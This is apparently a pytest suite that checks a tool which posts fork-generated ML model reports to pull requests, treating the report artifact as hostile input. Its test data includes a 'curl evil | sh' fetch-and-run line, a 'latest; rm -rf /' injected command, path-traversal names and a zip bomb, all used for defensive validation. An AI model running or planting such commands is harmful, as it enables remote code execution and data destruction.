"""Fork-safe reporting: a fork's run leaves its report as an artifact; `gitops-ml post-report`
(on `workflow_run`) posts it, after checking it as hostile input, against the stand-in.

Each refusal is one line naming the cause, and writes no comment and no status.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import random
import zipfile
from pathlib import Path

import act_runner
import pytest
from conftest import REPO, TOKEN, bake, commit_all, run, write_metrics
from gitops_ml import cli
from gitops_ml.checksums import render_sums
from gitops_ml.report import MARKER
from gitops_ml.report_artifact import (
    MAX_ARTIFACT_BYTES,
    MAX_FILE_BYTES,
    ArtifactError,
    artifact_name,
    parse,
)
from markdown_checks import HOSTILE, assert_inert
from mermaid_checks import mermaid_blocks, parse_failures

FORK = "outsider/churn-model"
RUN_ID = 9001
BOT = "github-actions[bot]"


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def set_env(monkeypatch, standin, event: dict, tmp_path: Path) -> None:
    path = tmp_path / f"event-{len(list(tmp_path.glob('event-*')))}.json"
    path.write_text(json.dumps(event))
    for key, value in {
        "GITHUB_TOKEN": TOKEN,
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_API_URL": standin.base_url,
        "GITHUB_EVENT_PATH": str(path),
    }.items():
        monkeypatch.setenv(key, value)
    for key in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_SHA", "GITHUB_RUN_ID"):
        monkeypatch.delenv(key, raising=False)


def workflow_run_event(head_sha: str, *, head_repo: str = FORK, pulls=()) -> dict:
    """What GitHub sends the pull-request-comment workflow: for a fork, no pull_requests."""
    return act_runner.workflow_run_event(RUN_ID, head_sha, head_repo, tuple(pulls))


@pytest.fixture
def fork_pr(tmp_path, gh_standin, monkeypatch):
    """A project whose pull request #5 comes from a fork, and the artifact its run left:
    `gitops-ml report --artifact-dir` run with the fork's read-only view (no comment)."""
    project = bake(tmp_path)
    write_metrics(project, 0.80)
    commit_all(project, "main")
    run(project, "git", "checkout", "-q", "-b", "feature")
    write_metrics(project, 0.83)
    plots = project / "plots"
    plots.mkdir(exist_ok=True)
    (plots / "roc.csv").write_text("fpr,tpr\n0,0\n0.1,0.6\n0.4,0.9\n1,1\n")
    rows = ["no,no"] * 70 + ["no,yes"] * 5 + ["yes,no"] * 10 + ["yes,yes"] * 15
    (plots / "confusion.csv").write_text("actual,predicted\n" + "\n".join(rows) + "\n")
    head = commit_all(project, "better")
    gh_standin.add_pull_request(5, head_sha=head, head_repo=FORK)
    pull = {"number": 5, "base": {"ref": "main"}, "head": {"sha": head}}
    set_env(monkeypatch, gh_standin, {"pull_request": pull}, tmp_path)
    monkeypatch.setenv("GITHUB_SHA", head)
    folder = tmp_path / "artifact"
    code = cli.main(
        ["report", "--project", str(project), "--no-comment", "--artifact-dir", str(folder)]
    )
    assert code == 0
    files = {p.name: p.read_bytes() for p in sorted(folder.iterdir())}
    assert sorted(files) == ["report.json", "report.md"]
    return head, files


def post(monkeypatch, standin, tmp_path, event) -> int:
    set_env(monkeypatch, standin, event, tmp_path)
    return cli.main(["post-report"])


def nothing_written(standin) -> bool:
    return not standin.comments(5) and not standin.statuses


def test_a_forks_report_is_posted_once_with_its_status(tmp_path, gh_standin, monkeypatch, fork_pr):
    head, files = fork_pr
    gh_standin.add_run_artifact(RUN_ID, "gitops-ml-report", zipped(files))
    gh_standin.add_run_artifact(RUN_ID, "coverage", zipped({"x.txt": b"not ours"}))
    event = workflow_run_event(head)
    assert post(monkeypatch, gh_standin, tmp_path, event) == 0
    [comment] = gh_standin.comments(5)
    assert comment["user"]["login"] == BOT and comment["body"].startswith(MARKER)
    assert "## Model report: ✅ gate passed" in comment["body"]
    assert "| roc_auc ↑ | 0.8300 |" in comment["body"]
    assert "base `main`" in comment["body"]  # the base side, as the fork's run read it
    assert f"/actions/runs/{RUN_ID}" in comment["body"]
    [chart] = mermaid_blocks(comment["body"])
    # The step curve on the 21-point grid: 0 up to fpr 5%, 60 from 10%, 90 from 40%.
    steps = ", ".join(["0"] * 2 + ["60"] * 6 + ["90"] * 12 + ["100"])
    assert f"line [{steps}]" in chart and not parse_failures([chart])
    assert "|`yes`|10|**15**|" in comment["body"]
    [status] = gh_standin.statuses
    assert (status["context"], status["sha"], status["state"]) == ("model-gate", head, "success")
    # What the fork's run rendered and what was posted agree (same data, same renderer).
    assert files["report.md"].decode().split("<sub>")[0] == comment["body"].split("<sub>")[0]

    assert post(monkeypatch, gh_standin, tmp_path, event) == 0  # a re-run
    assert [c["id"] for c in gh_standin.comments(5)] == [comment["id"]]


def test_the_gate_is_judged_here_against_the_champion(tmp_path, gh_standin, monkeypatch, fork_pr):
    """The fork's artifact says nothing of the champion: post-report reads it from Releases."""
    head, files = fork_pr
    champion = {
        "metrics.json": json.dumps({"roc_auc": 0.95, "f1": 0.7, "log_loss": 0.3}).encode(),
        "params.yaml": b"model: {}\n",
        "dvc.lock": b"schema: '2.0'\nstages: {}\n",
    }
    sums = {name: hashlib.sha256(content).hexdigest() for name, content in champion.items()}
    gh_standin.add_release("model-champ", champion | {"SHA256SUMS": render_sums(sums).encode()})
    gh_standin.add_run_artifact(RUN_ID, "gitops-ml-report", zipped(files))
    assert post(monkeypatch, gh_standin, tmp_path, workflow_run_event(head)) == 0
    body = gh_standin.comments(5)[0]["body"]
    assert "## Model report: ❌ gate failed" in body and "champion model-champ" in body
    assert gh_standin.statuses[-1]["state"] == "failure"


def refused(capsys, monkeypatch, standin, tmp_path, event, cause: str) -> None:
    assert post(monkeypatch, standin, tmp_path, event) == 1
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1, err
    assert err.startswith("gitops-ml post-report: error: ") and cause in err, err
    assert err.endswith("nothing posted"), err
    assert nothing_written(standin)


def test_a_forged_pull_request_number_is_refused(
    tmp_path, gh_standin, monkeypatch, fork_pr, capsys
):
    head, files = fork_pr
    gh_standin.add_pull_request(6, head_sha="b" * 40, head_repo="someone/else")
    forged = json.loads(files["report.json"])
    forged["pull_request"] = 6
    files = {**files, "report.json": json.dumps(forged).encode()}
    gh_standin.add_run_artifact(RUN_ID, "gitops-ml-report", zipped(files))
    refused(
        capsys,
        monkeypatch,
        gh_standin,
        tmp_path,
        workflow_run_event(head),
        "pull request #6's head is bbbbbbbbbbbb in someone/else",
    )
    assert not gh_standin.comments(6)


def test_a_number_not_among_the_runs_pull_requests_is_refused(
    tmp_path, gh_standin, monkeypatch, fork_pr, capsys
):
    head, files = fork_pr
    gh_standin.add_run_artifact(RUN_ID, "gitops-ml-report", zipped(files))
    event = workflow_run_event(head, pulls=[8])
    refused(capsys, monkeypatch, gh_standin, tmp_path, event, "#5 is not one of run 9001's")


def test_another_commit_is_refused(tmp_path, gh_standin, monkeypatch, fork_pr, capsys):
    head, files = fork_pr
    gh_standin.add_run_artifact(RUN_ID, "gitops-ml-report", zipped(files))
    event = workflow_run_event("c" * 40)
    refused(capsys, monkeypatch, gh_standin, tmp_path, event, "but run 9001 built cccccccccccc")


def test_a_pull_request_that_moved_on_is_not_reported_on(
    tmp_path, gh_standin, monkeypatch, fork_pr, capsys
):
    head, files = fork_pr
    gh_standin.move_pull_head(5, "d" * 40)
    gh_standin.add_run_artifact(RUN_ID, "gitops-ml-report", zipped(files))
    refused(capsys, monkeypatch, gh_standin, tmp_path, workflow_run_event(head), "moved on")


def test_an_oversized_artifact_is_not_even_downloaded(
    tmp_path, gh_standin, monkeypatch, fork_pr, capsys
):
    head, files = fork_pr
    padding = random.Random(0).randbytes(MAX_ARTIFACT_BYTES)  # does not compress
    big = zipped({**files, "report.md": padding})
    assert len(big) > MAX_ARTIFACT_BYTES
    gh_standin.add_run_artifact(RUN_ID, "gitops-ml-report", big)
    refused(capsys, monkeypatch, gh_standin, tmp_path, workflow_run_event(head), "over 1048576")
    assert gh_standin.count("GET", r"/actions/artifacts/\d+/zip") == 0


def test_a_zip_bomb_is_cut_off(tmp_path, gh_standin, monkeypatch, fork_pr, capsys):
    head, files = fork_pr
    document = json.loads(files["report.json"])
    document["params"]["padding"] = " " * MAX_FILE_BYTES  # compresses to a few KB
    bomb = zipped({"report.json": json.dumps(document).encode()})
    assert len(bomb) < 20_000
    gh_standin.add_run_artifact(RUN_ID, "gitops-ml-report", bomb)
    refused(
        capsys,
        monkeypatch,
        gh_standin,
        tmp_path,
        workflow_run_event(head),
        "report.json is over 1048576 bytes",
    )


@pytest.mark.parametrize(
    ("files", "cause"),
    [
        ({"report.json": b"{}", "run.sh": b"curl evil | sh"}, "holds 'run.sh'"),
        ({"../report.json": b"{}"}, "holds '../report.json'"),
        ({"report.md": b"# hi"}, "report.json is missing"),
        ({"report.json": b"\xff\xfe"}, "not UTF-8"),
        ({"report.json": b'{"a": 1, "a": 2}'}, "key 'a' appears twice"),
    ],
)
def test_a_malformed_artifact_is_refused(
    tmp_path, gh_standin, monkeypatch, fork_pr, capsys, files, cause
):
    head, _ = fork_pr
    gh_standin.add_run_artifact(RUN_ID, "gitops-ml-report", zipped(files))
    refused(capsys, monkeypatch, gh_standin, tmp_path, workflow_run_event(head), cause)


def test_markdown_injection_is_rendered_inert(tmp_path, gh_standin, monkeypatch, fork_pr):
    """Every value the fork's code could choose is escaped in the posted comment: metric
    names, params keys and values, data paths, the base branch's name."""
    head, files = fork_pr
    honest = json.loads(files["report.json"])

    def posted(values: list[str], number: int) -> str:
        document = json.loads(json.dumps(honest))
        document["pull_request"] = number
        document["metrics"].update({v: 0.5 for v in values})
        document["params"].update({f"p{i}": v for i, v in enumerate(values)})
        document["params"].update({v: "x" for v in values})
        document["data"] = {v: f"md5-{i}" for i, v in enumerate(values)}
        document["base"]["ref"] = values[0]
        labels = values[:12]
        counts = [[i + j for j in range(len(labels))] for i in range(len(labels))]
        document["plots"]["confusion"] = {"labels": labels, "counts": counts}
        artifact = {"report.json": json.dumps(document).encode()}
        gh_standin.add_run_artifact(RUN_ID + number, "gitops-ml-report", zipped(artifact))
        gh_standin.add_pull_request(number, head_sha=head, head_repo=FORK)
        event = workflow_run_event(head)
        event["workflow_run"]["id"] = RUN_ID + number
        assert post(monkeypatch, gh_standin, tmp_path, event) == 0
        [comment] = gh_standin.comments(number)
        return comment["body"]

    benign = [f"value{i}" for i in range(len(HOSTILE))]
    hostile = [h or f"empty{i}" for i, h in enumerate(HOSTILE)]
    assert_inert(posted(hostile, 11), posted(benign, 12), MARKER)


def test_a_run_without_a_report_posts_nothing(tmp_path, gh_standin, monkeypatch, capsys):
    gh_standin.add_run_artifact(RUN_ID, "coverage", zipped({"x": b"1"}))
    assert post(monkeypatch, gh_standin, tmp_path, workflow_run_event("a" * 40)) == 0
    assert "left no report artifact: nothing to post" in capsys.readouterr().out
    assert not gh_standin.statuses


@pytest.mark.parametrize(
    ("change", "cause"),
    [
        ({"event": "push"}, "triggered by 'push'"),
        ({"repository": {"full_name": "someone/else"}}, "belongs to another repository"),
        ({"head_sha": "not-a-sha"}, "lacks the run's id, head commit or repository"),
    ],
)
def test_a_run_that_is_not_this_repositorys_pull_request_is_refused(
    tmp_path, gh_standin, monkeypatch, capsys, change, cause
):
    event = workflow_run_event("a" * 40)
    event["workflow_run"].update(change)
    assert post(monkeypatch, gh_standin, tmp_path, event) == 1
    assert cause in capsys.readouterr().err
    assert gh_standin.count("GET", r"/artifacts") == 0


def test_two_projects_of_a_monorepo_each_get_their_comment(
    tmp_path, gh_standin, monkeypatch, monorepo
):
    first, second = monorepo
    sha = os.environ["GITHUB_SHA"]  # pull request #7's head (the fixture's)
    for project in (first, second):
        folder = tmp_path / f"artifact-{project.name}"
        args = ["report", "--project", str(project), "--no-comment", "--artifact-dir", str(folder)]
        assert cli.main(args) == 0
        name = artifact_name(project.name)
        assert name == f"gitops-ml-report+{project.name}"
        files = {p.name: p.read_bytes() for p in folder.iterdir()}
        gh_standin.add_run_artifact(RUN_ID, name, zipped(files))
    event = workflow_run_event(sha, head_repo=REPO, pulls=[7])
    assert post(monkeypatch, gh_standin, tmp_path, event) == 0
    bodies = sorted(c["body"].splitlines()[0] for c in gh_standin.comments(7))
    assert bodies == [f"<!-- gitops-ml:model-report:{p.name} -->" for p in (first, second)]
    contexts = sorted(s["context"] for s in gh_standin.statuses)
    assert contexts == [f"model-gate ({first.name})", f"model-gate ({second.name})"]


@pytest.mark.parametrize(
    ("change", "cause"),
    [
        ({"version": 2}, "not a gitops-ml-report version 1 report"),
        ({"extra": 1}, "has unknown 'extra'"),
        ({"pull_request": "5"}, "pull_request is not a whole number"),
        ({"pull_request": True}, "pull_request is not a whole number"),
        ({"head_sha": "HEAD"}, "head_sha is not a 40-digit commit SHA"),
        ({"project_path": "../../etc"}, "may not climb out"),
        ({"project_path": "a b"}, "project_path is not a folder path"),
        ({"champion": "latest; rm -rf /"}, "champion is not latest, none or a release tag"),
        ({"history": 10_000}, "history is not a whole number from 0 to 100"),
        ({"metrics": {"roc_auc": "0.9"}}, "metrics['roc_auc'] is not a number or null"),
        ({"metrics": {"x" * 2000: 1}}, "a key of metrics is not a string"),
        ({"params": {"a": {"nested": 1}}}, "params['a'] is not a short value"),
        ({"params": {"a": "x" * 5000}}, "params['a'] is not a short value"),
        ({"data": {"a": 1}}, "data['a'] is not a string"),
        ({"gate_rules": {"roc_auc": {"min": "high"}}}, "gate_rules"),
        ({"base": {"ref": "main"}}, "base lacks data, metrics, params"),
        ({"plots": {"roc": [[0, "x"]]}}, "plots lacks confusion, pred_actual"),
        (
            {"plots": {"roc": [[0, "x"]], "confusion": None, "pred_actual": None}},
            "plots.roc holds a point that is not two numbers",
        ),
        (
            {
                "plots": {
                    "roc": None,
                    "confusion": {"labels": ["a", "b"], "counts": [[1, 2]]},
                    "pred_actual": None,
                }
            },
            "plots.confusion.counts is not a square of whole numbers",
        ),
        (
            {
                "plots": {
                    "roc": None,
                    "confusion": {"labels": ["a"], "counts": [[-1]]},
                    "pred_actual": None,
                }
            },
            "plots.confusion.counts is not a square of whole numbers",
        ),
    ],
)
def test_the_schema_names_the_field_it_refuses(change, cause):
    document = {
        "format": "gitops-ml-report",
        "version": 1,
        "pull_request": 5,
        "head_sha": "a" * 40,
        "project_path": "",
        "champion": "latest",
        "history": 10,
        "metrics": {"roc_auc": 0.8},
        "params": {"model.n": 3, "features.drop": ["a", "b"]},
        "data": {"data/raw.csv": "abc"},
        "gate_rules": {"roc_auc": {"min": 0.7}},
        "base": {"ref": "main", "metrics": None, "params": None, "data": None},
        "plots": {"roc": [[0, 0], [0.5, 0.9], [1, 1]], "confusion": None, "pred_actual": None},
    }
    assert parse(document).plots.roc == [(0, 0), (0.5, 0.9), (1, 1)]
    with pytest.raises(ArtifactError, match=r"^report\.json: ") as err:
        parse(document | change)
    assert cause in str(err.value)


def test_a_malformed_plot_file_leaves_out_the_plots_not_the_report(
    tmp_path, gh_standin, monkeypatch, fork_pr, capsys
):
    head, files = fork_pr
    project = tmp_path / "churn-model"
    (project / "plots" / "roc.csv").write_text("fpr,tpr\n0,0\nhigh,1\n")
    assert cli.main(["report", "--project", str(project), "--no-comment"]) == 0
    out = capsys.readouterr().out
    assert "warning: this change: no plots (plots/roc.csv: line 3: 'high' is not a number)" in out
    assert "## Model report: ✅ gate passed" in out and "### Plots" not in out
